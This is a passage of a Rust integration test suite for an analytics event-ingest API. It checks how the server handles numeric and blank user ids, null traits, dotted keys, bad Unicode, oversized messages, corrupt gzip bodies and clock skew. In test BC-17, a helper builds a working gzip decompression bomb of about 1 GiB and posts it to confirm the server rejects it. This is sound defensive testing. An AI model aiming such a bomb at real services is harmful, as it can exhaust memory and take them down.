// ---------------------------------------------------------------------------------------------

async fn bc06() {
    let s = Server::start().await;
    ingest_raw_ok(
        &s,
        1,
        "/v1/identify",
        r#"{"userId": 157963456373623802, "traits": {"plan": "pro"}}"#,
    )
    .await;
    ingest_raw_ok(
        &s,
        2,
        "/v1/identify",
        r#"{"userId": 157963456373623803, "traits": {"plan": "free"}}"#,
    )
    .await;
    ingest_ok(
        &s,
        3,
        "/v1/track",
        json!({"userId": "157963456373623802", "event": "Login", "messageId": "bc06-1"}),
    )
    .await;
    ingest_raw_ok(
        &s,
        4,
        "/v1/track",
        r#"{"userId": 42, "event": "Login", "messageId": "bc06-2"}"#,
    )
    .await;
    ingest_ok(
        &s,
        5,
        "/v1/track",
        json!({"userId": "42", "event": "Logout", "messageId": "bc06-3"}),
    )
    .await;
    ingest_raw_ok(
        &s,
        6,
        "/v1/identify",
        r#"{"userId": 123456789012345678901234567890, "traits": {}}"#,
    )
    .await;

    let all = export_jsonl(&s, 7, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(all.len(), 4, "step 7: {all:?}");
    for p in &all {
        let n = identity_set(p)
            .iter()
            .filter(|(t, _)| t == "user_id")
            .count();
        assert_eq!(n, 1, "step 7: {p}");
    }
    let mut expected = vec![
        "157963456373623802".to_owned(),
        "157963456373623803".to_owned(),
        "42".to_owned(),
        "123456789012345678901234567890".to_owned(),
    ];
    expected.sort();
    assert_eq!(user_ids_of(&all), expected, "step 7");

    let p8 = profile(&s, 8, "user_id:157963456373623802").await;
    assert_eq!(p8["traits"]["plan"], "pro", "step 8: {p8}");
    let p9 = profile(&s, 9, "user_id:157963456373623803").await;
    assert_ne!(pid(&p9), pid(&p8), "step 9");
    assert_eq!(p9["traits"]["plan"], "free", "step 9: {p9}");

    let (st, v) = s.get("/v1/profiles/user_id:157963456373623808").await;
    assert_eq!(st, 404, "step 10: {v}");

    let ev = tracks(&s, 11, "user_id:157963456373623802").await;
    assert_eq!(mids(&ev), vec!["bc06-1"], "step 11: {ev:?}");
    assert_eq!(names(&ev), vec!["Login"], "step 11");

    let ev = tracks(&s, 12, "user_id:42").await;
    assert_eq!(mids(&ev), vec!["bc06-3", "bc06-2"], "step 12: {ev:?}");
    assert_eq!(names(&ev), vec!["Logout", "Login"], "step 12");

    let p13 = profile(&s, 13, "user_id:123456789012345678901234567890").await;
    assert_eq!(
        identity_set(&p13)
            .into_iter()
            .filter(|(t, _)| t == "user_id")
            .collect::<Vec<_>>(),
        ids(&[("user_id", "123456789012345678901234567890")]),
        "step 13: {p13}"
    );
}

#[tokio::test]
async fn bc_06_numeric_user_ids_keep_every_digit_with_export() {
    bc06().await;
}

// ---------------------------------------------------------------------------------------------
// BC-07 ingest: null or empty userId treated as the id ""
// ---------------------------------------------------------------------------------------------

async fn bc07() {
    let s = Server::start().await;
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"userId": null, "anonymousId": "anon-e1", "event": "Page Viewed", "messageId": "bc07-1"}),
    )
    .await;
    ingest_ok(
        &s,
        2,
        "/v1/track",
        json!({"userId": "", "anonymousId": "anon-e2", "event": "Page Viewed", "messageId": "bc07-2"}),
    )
    .await;
    ingest_ok(
        &s,
        3,
        "/v1/identify",
        json!({"userId": "   ", "anonymousId": "anon-e3", "traits": {"plan": "trial"}}),
    )
    .await;
    for (step, body) in [
        (
            4,
            json!({"userId": "", "event": "Page Viewed", "messageId": "bc07-3"}),
        ),
        (
            5,
            json!({"anonymousId": "", "event": "Page Viewed", "messageId": "bc07-4"}),
        ),
    ] {
        let (st, v) = s.ingest("/v1/track", &body).await;
        assert_eq!(st, 400, "step {step}: {v}");
        let m = error_message(step, &v, "missing_id");
        assert!(
            m.contains("userId") && m.contains("anonymousId"),
            "step {step}: message must name userId and anonymousId: {v}"
        );
    }
    // Nothing of steps 4 and 5 is stored.
    let (st, v) = s.get("/v1/events?limit=1000").await;
    assert_eq!(st, 200, "{v}");
    let stored = mids(v["events"].as_array().unwrap());
    assert!(
        !stored.iter().any(|m| m == "bc07-3" || m == "bc07-4"),
        "steps 4-5 stored something: {stored:?}"
    );

    let all = export_jsonl(&s, 6, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(all.len(), 3, "step 6: {all:?}");
    let sets: BTreeSet<Vec<(String, String)>> = all.iter().map(identity_set).collect();
    let expected: BTreeSet<Vec<(String, String)>> = ["anon-e1", "anon-e2", "anon-e3"]
        .into_iter()
        .map(|a| ids(&[("anonymous_id", a)]))
        .collect();
    assert_eq!(sets, expected, "step 6: {all:?}");
    let distinct: BTreeSet<String> = all.iter().map(pid).collect();
    assert_eq!(distinct.len(), 3, "step 6: three different ids");

    let (st, v) = s.get("/v1/profiles/user_id:%20%20%20").await;
    assert_eq!(st, 404, "step 7: {v}");

    let p = profile(&s, 8, "anonymous_id:anon-e3").await;
    assert_eq!(p["traits"], json!({"plan": "trial"}), "step 8: {p}");
}

#[tokio::test]
async fn bc_07_null_or_blank_user_id_counts_as_absent_with_export() {
    bc07().await;
}

// ---------------------------------------------------------------------------------------------
// BC-08 ingest: a trait sent as null cannot clear the trait
// ---------------------------------------------------------------------------------------------

async fn bc08() {
    let s = Server::start().await;
    create_segment(
        &s,
        1,
        json!({"id": "has_nickname", "name": "Has nickname", "rule": {"trait": "nickname", "op": "exists"}}),
    )
    .await;
    ingest_ok(
        &s,
        2,
        "/v1/identify",
        json!({"userId": "user-eli", "traits": {"plan": "pro", "nickname": "Eli", "company": {"name": "Acme Test"}}}),
    )
    .await;
    assert_only_member(3, &members(&s, 3, "has_nickname").await, "user-eli");
    let updated = |evs: Vec<Value>| -> Vec<Value> {
        evs.into_iter()
            .filter(|e| e["event"] == "user.updated")
            .collect()
    };
    let before = updated(events(&s, 4, "user_id:user-eli", "name=user.updated").await);
    ingest_ok(
        &s,
        4,
        "/v1/identify",
        json!({"userId": "user-eli", "traits": {"nickname": null}}),
    )
    .await;
    // user-eli leaves before step 4 is answered.
    let m = members(&s, 4, "has_nickname").await;
    assert!(m.is_empty(), "after step 4: {m:?}");
    let after = updated(events(&s, 4, "user_id:user-eli", "name=user.updated").await);
    let unset_nickname: Vec<&Value> = after
        .iter()
        .filter(|e| e["properties"]["changes"]["nickname"] == json!({"from": "Eli", "to": null}))
        .collect();
    assert_eq!(
        unset_nickname.len(),
        1,
        "step 4: one user.updated with changes.nickname {{from: Eli, to: null}}; before {before:?}, after {after:?}"
    );
    assert_eq!(after.len(), before.len() + 1, "step 4: {after:?}");

    let p = profile(&s, 5, "user_id:user-eli").await;
    assert_eq!(
        p["traits"],
        json!({"plan": "pro", "company": {"name": "Acme Test"}}),
        "step 5: {p}"
    );

    ingest_ok(
        &s,
        6,
        "/v1/identify",
        json!({"userId": "user-eli", "traits": null}),
    )
    .await;
    ingest_ok(&s, 7, "/v1/identify", json!({"userId": "user-eli"})).await;
    let after7 = updated(events(&s, 7, "user_id:user-eli", "name=user.updated").await);
    assert_eq!(
        after7.len(),
        after.len(),
        "steps 6-7 must record no user.updated: {after7:?}"
    );
    let p = profile(&s, 7, "user_id:user-eli").await;
    assert_eq!(
        p["traits"],
        json!({"plan": "pro", "company": {"name": "Acme Test"}}),
        "after steps 6-7 (no wipe): {p}"
    );

    ingest_ok(
        &s,
        8,
        "/v1/identify",
        json!({"userId": "user-eli", "traits": {"company": null}}),
    )
    .await;
    let p = profile(&s, 9, "user_id:user-eli").await;
    assert_eq!(p["traits"], json!({"plan": "pro"}), "step 9: {p}");

    let m = members(&s, 10, "has_nickname").await;
    assert!(m.is_empty(), "step 10: {m:?}");
    let exited = events(&s, 11, "user_id:user-eli", "name=segment.exited").await;
    assert_eq!(exited.len(), 1, "step 11: {exited:?}");
    assert_eq!(exited[0]["event"], "segment.exited", "step 11");
    assert_eq!(
        exited[0]["properties"]["segment_id"], "has_nickname",
        "step 11: {exited:?}"
    );
}

#[tokio::test]
async fn bc_08_null_trait_unsets_it_with_segment() {
    bc08().await;
}

// ---------------------------------------------------------------------------------------------
// BC-09 segments: value of another type than first seen stored as null
// ---------------------------------------------------------------------------------------------

async fn bc09() {
    let s = Server::start().await;
    create_segment(
        &s,
        1,
        json!({"id": "adults", "name": "Adults", "rule": {"trait": "age", "op": "gte", "value": 18}}),
    )
    .await;
    ingest_ok(
        &s,
        2,
        "/v1/identify",
        json!({"userId": "user-fay", "traits": {"age": "17"}}),
    )
    .await;
    let (st, v) = s.get("/v1/profiles/user_id:user-fay/segments").await;
    assert_eq!((st, &v), (200, &json!({"segments": []})), "step 3");
    ingest_ok(
        &s,
        4,
        "/v1/identify",
        json!({"userId": "user-fay", "traits": {"age": 31}}),
    )
    .await;
    ingest_ok(
        &s,
        5,
        "/v1/identify",
        json!({"userId": "user-gus", "traits": {"age": 40.5}}),
    )
    .await;
    ingest_ok(
        &s,
        6,
        "/v1/identify",
        json!({"userId": "user-hal", "traits": {"age": "forty"}}),
    )
    .await;
    ingest_ok(
        &s,
        7,
        "/v1/identify",
        json!({"userId": "user-ivy", "traits": {"zip": "02134", "utm_campaign": "2024"}}),
    )
    .await;
    let all = export_jsonl(&s, 8, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(all.len(), 4, "step 8: {all:?}");
    let by_user: BTreeMap<String, Value> = all
        .iter()
        .map(|p| (user_ids_of(std::slice::from_ref(p)).join(","), p.clone()))
        .collect();
    let age = |u: &str| by_user[u]["traits"]["age"].clone();
    assert_eq!(
        age("user-fay"),
        json!(31),
        "step 8: {:?}",
        by_user["user-fay"]
    );
    assert!(
        age("user-fay").is_i64() || age("user-fay").is_u64(),
        "step 8"
    );
    assert_eq!(
        age("user-gus"),
        json!(40.5),
        "step 8: {:?}",
        by_user["user-gus"]
    );
    assert_eq!(
        age("user-hal"),
        json!("forty"),
        "step 8: {:?}",
        by_user["user-hal"]
    );
    assert_eq!(
        by_user["user-ivy"]["traits"],
        json!({"zip": "02134", "utm_campaign": "2024"}),
        "step 8"
    );
    let m = members(&s, 9, "adults").await;
    assert_eq!(
        user_ids_of(&m),
        vec!["user-fay", "user-gus"],
        "step 9: {m:?}"
    );
    assert_eq!(m.len(), 2, "step 9");
}

#[tokio::test]
async fn bc_09_values_keep_their_own_type_with_segment_and_export() {
    bc09().await;
}

// ---------------------------------------------------------------------------------------------
// BC-10 segments: literal dotted trait key rewritten or confused with a nested path
// ---------------------------------------------------------------------------------------------

async fn bc10() {
    let s = Server::start().await;
    let traits =
        json!({"address.city": "Lyon", "address": {"city": "Paris"}, "prefs.topics.topic_1": true});
    ingest_ok(
        &s,
        1,
        "/v1/identify",
        json!({"userId": "user-jo", "traits": traits.clone()}),
    )
    .await;
    for (step, body) in [
        (
            2,
            json!({"id": "lyon_literal", "name": "Lyon (literal dotted key)", "rule": {"trait": "address\\.city", "op": "eq", "value": "Lyon"}}),
        ),
        (
            3,
            json!({"id": "paris_nested", "name": "Paris (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Paris"}}),
        ),
        (
            4,
            json!({"id": "lyon_nested", "name": "Lyon (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Lyon"}}),
        ),
    ] {
        create_segment(&s, step, body).await;
    }
    let p = profile(&s, 5, "user_id:user-jo").await;
    assert_eq!(p["traits"], traits, "step 5: {p}");
    assert_only_member(6, &members(&s, 6, "lyon_literal").await, "user-jo");
    assert_only_member(7, &members(&s, 7, "paris_nested").await, "user-jo");
    let m = members(&s, 8, "lyon_nested").await;
    assert!(m.is_empty(), "step 8: {m:?}");

    let lines = export_jsonl(&s, 9, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(lines.len(), 1, "step 9: {lines:?}");
    assert_eq!(lines[0]["traits"], traits, "step 9");

    let text = get_text(
        &s,
        10,
        "/v1/export/profiles?format=csv&fields=user_id,traits.address.city,traits.address%5C.city,traits.prefs%5C.topics%5C.topic_1",
    )
    .await;
    assert_eq!(
        csv_values(&parse_csv(&text)),
        vec![
            vec![
                "user_id",
                "traits.address.city",
                "traits.address\\.city",
                "traits.prefs\\.topics\\.topic_1"
            ],
            vec!["user-jo", "Paris", "Lyon", "true"],
        ],
        "step 10: {text:?}"
    );

    let text = get_text(&s, 11, "/v1/export/profiles?format=csv").await;
    let records = csv_values(&parse_csv(&text));
    assert_eq!(records.len(), 2, "step 11: {text:?}");
    let (header, row) = (&records[0], &records[1]);
    assert_eq!(header.len(), row.len(), "step 11: {text:?}");
    let unique: BTreeSet<&String> = header.iter().collect();
    assert_eq!(
        unique.len(),
        header.len(),
        "step 11: duplicate header cells: {header:?}"
    );
    let column_of = |value: &str| -> String {
        let cols: Vec<&String> = header
            .iter()
            .zip(row)
            .filter(|(_, v)| *v == value)
            .map(|(h, _)| h)
            .collect();
        assert_eq!(cols.len(), 1, "step 11: {value} under {cols:?} in {text:?}");
        cols[0].clone()
    };
    let paris = column_of("Paris");
    let lyon = column_of("Lyon");
    assert_ne!(paris, lyon, "step 11");
    for (col, value) in [(paris, "Paris"), (lyon, "Lyon")] {
        let enc = percent_encoding::utf8_percent_encode(&col, percent_encoding::NON_ALPHANUMERIC);
        let text = get_text(
            &s,
            11,
            &format!("/v1/export/profiles?format=csv&fields=user_id,{enc}"),
        )
        .await;
        assert_eq!(
            csv_values(&parse_csv(&text)),
            vec![
                vec!["user_id".to_owned(), col.clone()],
                vec!["user-jo".to_owned(), value.to_owned()]
            ],
            "step 11: fields={col}: {text:?}"
        );
    }
}

#[tokio::test]
async fn bc_10_dotted_trait_keys_stay_literal_with_segments_and_export() {
    bc10().await;
}

// ---------------------------------------------------------------------------------------------
// BC-11 ingest: lone surrogate accepted, crashes storage later
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_11_lone_surrogate_is_rejected_and_blocks_nothing() {
    let s = Server::start().await;
    let props = json!({"🍕": "yes", "名前": "テスト", "mood": "ok 😀"});
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"userId": "user-kim", "event": "Player Created 🍔", "properties": props.clone(), "messageId": "bc11-1"}),
    )
    .await;
    let raw = r#"{"userId":"user-kim","event":"Broken","properties":{"note":"half \ud83d only"},"messageId":"bc11-2"}"#;
    let (st, v) = s
        .ingest_raw("/v1/track", raw.as_bytes().to_vec(), &[])
        .await;
    assert_eq!(st, 400, "step 2: {v}");
    let m = error_message(2, &v, "invalid_json");
    let path = v["path"].as_str().unwrap_or("");
    assert!(
        path.contains("properties.note") || m.contains("properties.note"),
        "step 2: error must name properties.note: {v}"
    );
    let lower = m.to_lowercase();
    assert!(
        lower.contains("surrogate") && lower.contains("d83d"),
        "step 2: error must say unpaired UTF-16 surrogate \\ud83d: {v}"
    );
    ingest_ok(
        &s,
        3,
        "/v1/track",
        json!({"userId": "user-kim", "event": "After", "messageId": "bc11-3"}),
    )
    .await;

    let text = get_text(&s, 4, "/v1/profiles/user_id:user-kim/events?type=track").await;
    let v: Value = serde_json::from_str(&text).unwrap();
    let ev = v["events"].as_array().unwrap();
    assert_eq!(
        names(ev),
        vec!["After", "Player Created 🍔"],
        "step 4: {text}"
    );
    assert_eq!(mids(ev), vec!["bc11-3", "bc11-1"], "step 4");
    assert_eq!(ev[1]["properties"], props, "step 4");

    let kim = pid(&profile(&s, 5, "user_id:user-kim").await);
    let text = get_text(&s, 5, "/v1/events?name=Player%20Created%20%F0%9F%8D%94").await;
    let v: Value = serde_json::from_str(&text).unwrap();
    let ev = v["events"].as_array().unwrap();
    assert_eq!(ev.len(), 1, "step 5: {text}");
    assert_eq!(ev[0]["event"], "Player Created 🍔", "step 5");
    assert_eq!(ev[0]["profile_id"], kim.as_str(), "step 5");
}

// ---------------------------------------------------------------------------------------------
// BC-12 ingest: U+0000 in a trait: 200, then the message vanishes
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_12_nul_character_in_a_trait_is_stored() {
    let s = Server::start().await;
    let v = ingest_ok(
        &s,
        1,
        "/v1/batch",
        json!({"batch": [
            {"type": "identify", "userId": "user-lee", "traits": {"email": "\u{0000}", "name": "Lee Test"}, "messageId": "bc12-1"},
            {"type": "track", "userId": "user-lee", "event": "Logout", "messageId": "bc12-2"}
        ]}),
    )
    .await;
    assert_eq!(
        v,
        json!({"success": true, "accepted": 2, "duplicates": 0, "rejected": []}),
        "step 1"
    );
    let text = get_text(&s, 2, "/v1/profiles/user_id:user-lee").await;
    assert!(!text.contains('\u{0}'), "step 2: raw NUL byte in {text:?}");
    assert!(
        text.contains("\\u0000"),
        "step 2: no \\u0000 escape in {text}"
    );
    let p: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        p["traits"],
        json!({"email": "\u{0000}", "name": "Lee Test"}),
        "step 2: {p}"
    );
    assert_eq!(
        identity_set(&p),
        ids(&[("user_id", "user-lee"), ("email", "\u{0000}")]),
        "step 2: {p}"
    );
    let ev = tracks(&s, 3, "user_id:user-lee").await;
    assert_eq!(mids(&ev), vec!["bc12-2"], "step 3: {ev:?}");
    assert_eq!(names(&ev), vec!["Logout"], "step 3");
}

// ---------------------------------------------------------------------------------------------
// BC-13 ingest: one bad message aborts a batch; retry duplicates the rest
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_13_one_bad_message_does_not_abort_the_batch() {
    let s = Server::start().await;
    let batch = json!({"batch": [
        {"type": "track", "userId": "user-max", "event": "Step 1", "messageId": "bc13-1"},
        {"type": "track", "userId": "user-max", "event": "", "messageId": "bc13-2"},
        {"type": "track", "userId": "user-max", "event": "Step 3", "messageId": "bc13-3"}
    ]});
    for (step, accepted, duplicates) in [(1, 2, 0), (2, 0, 2)] {
        let v = ingest_ok(&s, step, "/v1/batch", batch.clone()).await;
        assert_eq!(v["success"], json!(true), "step {step}: {v}");
        assert_eq!(v["accepted"], json!(accepted), "step {step}: {v}");
        assert_eq!(v["duplicates"], json!(duplicates), "step {step}: {v}");
        let rejected = v["rejected"].as_array().unwrap();
        assert_eq!(rejected.len(), 1, "step {step}: {v}");
        let m = rejected_entry(step, &rejected[0], 1);
        assert!(
            m.contains("event"),
            "step {step}: message must name event: {v}"
        );
    }
    let ev = tracks(&s, 3, "user_id:user-max").await;
    assert_eq!(names(&ev), vec!["Step 3", "Step 1"], "step 3: {ev:?}");
    assert_eq!(mids(&ev), vec!["bc13-3", "bc13-1"], "step 3");
}

// ---------------------------------------------------------------------------------------------
// BC-15 ingest: oversized message: 200, then silently dropped
// ---------------------------------------------------------------------------------------------

fn names_32_kib(m: &str) -> bool {
    let l = m.to_lowercase();
    l.contains("32 kib") || l.contains("32kib") || l.contains("32768") || l.contains("32,768")
}

#[tokio::test]
async fn bc_15_oversized_message_is_refused_not_dropped() {
    let s = Server::start().await;
    let big = "x".repeat(40_000);
    let medium = "y".repeat(30_000);
    let (st, v) = s
        .ingest(
            "/v1/track",
            &json!({"userId": "user-oli", "event": "Big", "properties": {"blob": big}, "messageId": "bc15-1"}),
        )
        .await;
    assert_eq!(st, 413, "step 1: {v}");
    let m = error_message(1, &v, "too_large");
    assert!(
        names_32_kib(&m),
        "step 1: message must name the 32 KiB limit: {v}"
    );

    ingest_ok(
        &s,
        2,
        "/v1/track",
        json!({"userId": "user-oli", "event": "Medium", "properties": {"blob": medium}, "messageId": "bc15-2"}),
    )
    .await;

    let v = ingest_ok(
        &s,
        3,
        "/v1/batch",
        json!({"batch": [
            {"type": "track", "userId": "user-oli", "event": "Small 1", "messageId": "bc15-3"},
            {"type": "track", "userId": "user-oli", "event": "Big", "properties": {"blob": big}, "messageId": "bc15-4"},
            {"type": "track", "userId": "user-oli", "event": "Small 2", "messageId": "bc15-5"}
        ]}),
    )
    .await;
    assert_eq!(v["success"], json!(true), "step 3: {v}");
    assert_eq!(v["accepted"], json!(2), "step 3: {v}");
    assert_eq!(v["duplicates"], json!(0), "step 3: {v}");
    let rejected = v["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 1, "step 3: {v}");
    let m = rejected_entry(3, &rejected[0], 1);
    assert!(
        names_32_kib(&m),
        "step 3: message must name the 32 KiB limit: {v}"
    );

    let ev = tracks(&s, 4, "user_id:user-oli").await;
    assert_eq!(names(&ev), vec!["Small 2", "Small 1", "Medium"], "step 4");
    assert_eq!(mids(&ev), vec!["bc15-5", "bc15-3", "bc15-2"], "step 4");
    let blob = ev[2]["properties"]["blob"].as_str().unwrap();
    assert_eq!(blob.len(), 30_000, "step 2: blob truncated");
    assert_eq!(blob, medium, "step 2: blob changed");
}

// ---------------------------------------------------------------------------------------------
// BC-17 ingest: corrupt gzip body answered with 500
// ---------------------------------------------------------------------------------------------

/// Runs a raw deflate compressor over `input` with `flush`, appending to `out`.
fn deflate_into(
    c: &mut flate2::Compress,
    mut input: &[u8],
    flush: flate2::FlushCompress,
    out: &mut Vec<u8>,
) {
    loop {
        out.reserve(256 * 1024);
        let before = c.total_in();
        let status = c.compress_vec(input, out, flush).unwrap();
        input = &input[(c.total_in() - before) as usize..];
        let done = if flush == flate2::FlushCompress::Finish {
            status == flate2::Status::StreamEnd
        } else {
            input.is_empty() && out.len() < out.capacity()
        };
        if done {
            return;
        }
    }
}

/// gzip of `prefix`, then `copies` × `chunk` spaces, then `suffix`, built as a stream: after
/// a full flush the compressor keeps no history, so one compressed chunk of spaces is valid
/// anywhere after a flush and is repeated instead of compressing 1 GiB.
fn gzip_of_spaces(prefix: &[u8], chunk: usize, copies: usize, suffix: &[u8]) -> Vec<u8> {
    use flate2::FlushCompress;
    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
    // gzip header: deflate, no flags, no mtime, OS unknown.
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    deflate_into(&mut c, prefix, FlushCompress::Full, &mut out);
    let spaces = vec![b' '; chunk];
    let mut block = Vec::new();
    deflate_into(&mut c, &spaces, FlushCompress::Full, &mut block);
    for _ in 0..copies {
        out.extend_from_slice(&block);
    }
    deflate_into(&mut c, suffix, FlushCompress::Finish, &mut out);
    let mut crc = crc32fast::Hasher::new();
    crc.update(prefix);
    let mut chunk_crc = crc32fast::Hasher::new();
    chunk_crc.update(&spaces);
    for _ in 0..copies {
        crc.combine(&chunk_crc);
    }
    let mut suffix_crc = crc32fast::Hasher::new();
    suffix_crc.update(suffix);
    crc.combine(&suffix_crc);
    out.extend_from_slice(&crc.finalize().to_le_bytes());
    let total = prefix.len() as u64 + (chunk * copies) as u64 + suffix.len() as u64;
    out.extend_from_slice(&(total as u32).to_le_bytes());
    out
}

/// Asserts an answer body holds no gzip bytes and parses it as JSON.
fn no_echo(step: usize, body: &[u8]) -> Value {
    assert!(
        find_bytes(body, &[0x1f, 0x8b]).is_none(),
        "step {step}: answer echoes compressed bytes: {body:?}"
    );
    serde_json::from_slice(body).unwrap_or_else(|e| {
        panic!(
            "step {step}: answer not JSON ({e}): {}",
            String::from_utf8_lossy(body)
        )
    })
}

#[tokio::test]
async fn bc_17_corrupt_gzip_is_a_client_error() {
    let s = Server::start().await;
    let gz = [
        ("Content-Type", "application/json"),
        ("Content-Encoding", "gzip"),
    ];
    let batch = |event: &str, id: &str| {
        serde_json::to_vec(&json!({"batch": [{"type": "track", "userId": "user-quin", "event": event, "messageId": id}]}))
            .unwrap()
    };

    // Step 1: a good gzip body.
    let (st, _, body) = raw_request(
        &s,
        "POST",
        "/v1/batch",
        Some(gzip(&batch("Zipped", "bc17-1"))),
        &gz,
        Auth::Write,
    )
    .await;
    let v = no_echo(1, &body);
    assert_eq!(st, 200, "step 1: {v}");
    assert_eq!(
        v,
        json!({"success": true, "accepted": 1, "duplicates": 0, "rejected": []}),
        "step 1"
    );

    // Step 2: the same, last 20 bytes cut off.
    let mut cut = gzip(&batch("Zipped", "bc17-2"));
    cut.truncate(cut.len() - 20);
    let (st, _, body) = raw_request(&s, "POST", "/v1/batch", Some(cut), &gz, Auth::Write).await;
    let v = no_echo(2, &body);
    assert_eq!(st, 400, "step 2: {v}");
    let m = error_message(2, &v, "invalid_body").to_lowercase();
    assert!(
        m.contains("gzip") && (m.contains("corrupt") || m.contains("truncat")),
        "step 2: error must say the gzip stream is corrupt or truncated: {v}"
    );

    // Step 3: a gzip bomb, ~1 GiB of spaces inflated.
    let prefix = br#"{"batch": [{"type": "track", "userId": "user-quin", "event": "Bomb", "messageId": "bc17-5", "properties": {"pad": ""#;
    let suffix = br#""}}]}"#;
    // The construction is checked on a small copy first.
    let small = gzip_of_spaces(prefix, 1 << 16, 3, suffix);
    let mut inflated = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&small[..]), &mut inflated)
        .unwrap();
    let mut want = prefix.to_vec();
    want.extend(std::iter::repeat_n(b' ', 3 << 16));
    want.extend_from_slice(suffix);
    assert!(inflated == want, "the gzip bomb construction is wrong");
    let bomb = gzip_of_spaces(prefix, 1 << 20, 1024, suffix);
    assert!(
        bomb.len() < 4 << 20,
        "bomb is {} bytes compressed",
        bomb.len()
    );
    let t0 = Instant::now();
    let (st, _, body) = tokio::time::timeout(
        Duration::from_secs(60),
        raw_request(&s, "POST", "/v1/batch", Some(bomb), &gz, Auth::Write),
    )
    .await
    .expect("step 3: no answer within 60 s");
    let v = no_echo(3, &body);
    assert_eq!(st, 413, "step 3 (after {:?}): {v}", t0.elapsed());
    error_message(3, &v, "too_large");
    match server_pid(&s).and_then(|p| proc_kib(p, "VmHWM")) {
        Some(peak) => assert!(
            peak < 256 * 1024,
            "step 3: server peak memory {peak} KiB: it inflated far past the body limit"
        ),
        None => eprintln!("step 3: server memory not measurable here"),
    }

    // Step 4: gzip bytes without Content-Encoding are not JSON.
    let (st, _, body) = raw_request(
        &s,
        "POST",
        "/v1/batch",
        Some(gzip(&batch("Zipped", "bc17-3"))),
        &[("Content-Type", "application/json")],
        Auth::Write,
    )
    .await;
    let v = no_echo(4, &body);
    assert_eq!(st, 400, "step 4: {v}");
    error_message(4, &v, "invalid_json");

    // Step 5: an unsupported encoding.
    let (st, _, body) = raw_request(
        &s,
        "POST",
        "/v1/batch",
        Some(batch("Plain", "bc17-4")),
        &[
            ("Content-Type", "application/json"),
            ("Content-Encoding", "br"),
        ],
        Auth::Write,
    )
    .await;
    let v = no_echo(5, &body);
    assert_eq!(st, 415, "step 5: {v}");
    let m = error_message(5, &v, "unsupported_encoding");
    assert!(
        m.to_lowercase().contains("content-encoding")
            && m.split(|c: char| !c.is_ascii_alphanumeric())
                .any(|w| w == "br"),
        "step 5: error must name the Content-Encoding br: {v}"
    );

    let (st, _, body) = raw_request(&s, "GET", "/healthz", None, &[], Auth::None).await;
    assert_eq!(st, 200, "step 6: {}", String::from_utf8_lossy(&body));

    let ev = tracks(&s, 7, "user_id:user-quin").await;
    assert_eq!(mids(&ev), vec!["bc17-1"], "step 7: {ev:?}");
    assert_eq!(names(&ev), vec!["Zipped"], "step 7");
}

// ---------------------------------------------------------------------------------------------
// BC-18 ingest: future device clock stores future-dated events
// ---------------------------------------------------------------------------------------------

async fn bc18() {
    let s = Server::start().await;
    create_segment(
        &s,
        1,
        json!({"id": "listened_7d", "name": "Listened in the last 7 days", "rule": {"event": "Song Played", "count": {"gte": 1}, "within": {"days": 7}}}),
    )
    .await;
    let now2 = wall_now();
    ingest_ok(
        &s,
        2,
        "/v1/track",
        json!({"userId": "user-pia", "event": "Song Played",
               "timestamp": rfc(now2 + ms(3650 * DAY_MS)),
               "sentAt": rfc(now2 + ms(3650 * DAY_MS + 2_000)),
               "messageId": "bc18-1"}),
    )
    .await;
    assert_only_member(3, &members(&s, 3, "listened_7d").await, "user-pia");
    let now4 = wall_now();
    ingest_ok(
        &s,
        4,
        "/v1/track",
        json!({"userId": "user-pia", "event": "Song Paused",
               "timestamp": rfc(now4 + ms(3650 * DAY_MS)), "messageId": "bc18-2"}),
    )
    .await;
    let ev = tracks(&s, 5, "user_id:user-pia").await;
    let after = OffsetDateTime::now_utc();
    assert_eq!(
        names(&ev),
        vec!["Song Paused", "Song Played"],
        "step 5: {ev:?}"
    );
    assert_eq!(mids(&ev), vec!["bc18-2", "bc18-1"], "step 5");
    let (paused, played) = (&ev[0], &ev[1]);
    assert_eq!(
        ts(&paused["timestamp"]),
        ts(&paused["received_at"]),
        "step 5: Song Paused is clamped to its received_at: {paused}"
    );
    assert_eq!(
        ms_between(ts(&played["received_at"]), ts(&played["timestamp"])),
        2_000,
        "step 5: Song Played is 2.000 s before its received_at: {played}"
    );
    // About NOW, not ten years ahead.
    let t = ts(&played["timestamp"]);
    assert!(
        t >= now2 - ms(2_000) && t <= after,
        "step 2: Song Played at {t}, NOW {now2}: {played}"
    );
    for e in &ev {
        assert!(
            ts(&e["timestamp"]) <= after,
            "step 5: future timestamp: {e}"
        );
    }
}

#[tokio::test]
async fn bc_18_future_device_clock_is_corrected_with_segment() {
    bc18().await;
}

// ---------------------------------------------------------------------------------------------
// BC-20 ingest: skew corrected as a calendar period, days off
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_20_skew_is_corrected_as_an_exact_duration() {
    let s = Server::start().await;
    let now = wall_now();
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"userId": "user-sol", "event": "Page Ping",
               "timestamp": rfc(now - ms(57 * DAY_MS)), "sentAt": rfc(now), "messageId": "bc20-1"}),
    )
    .await;
    ingest_ok(
        &s,
        2,
        "/v1/track",
        json!({"userId": "user-sol", "event": "Page Ping", "messageId": "bc20-2"}),
    )
    .await;
    let after = OffsetDateTime::now_utc();
    let ev = tracks(&s, 3, "user_id:user-sol").await;
    assert_eq!(mids(&ev), vec!["bc20-2", "bc20-1"], "step 3: {ev:?}");
    let (e2, e1) = (&ev[0], &ev[1]);
    assert_eq!(
        ms_between(ts(&e1["received_at"]), ts(&e1["timestamp"])),
        4_924_800_000,
        "step 1: {e1}"
    );
    let off = ms_between(ts(&e1["timestamp"]), now - ms(57 * DAY_MS));
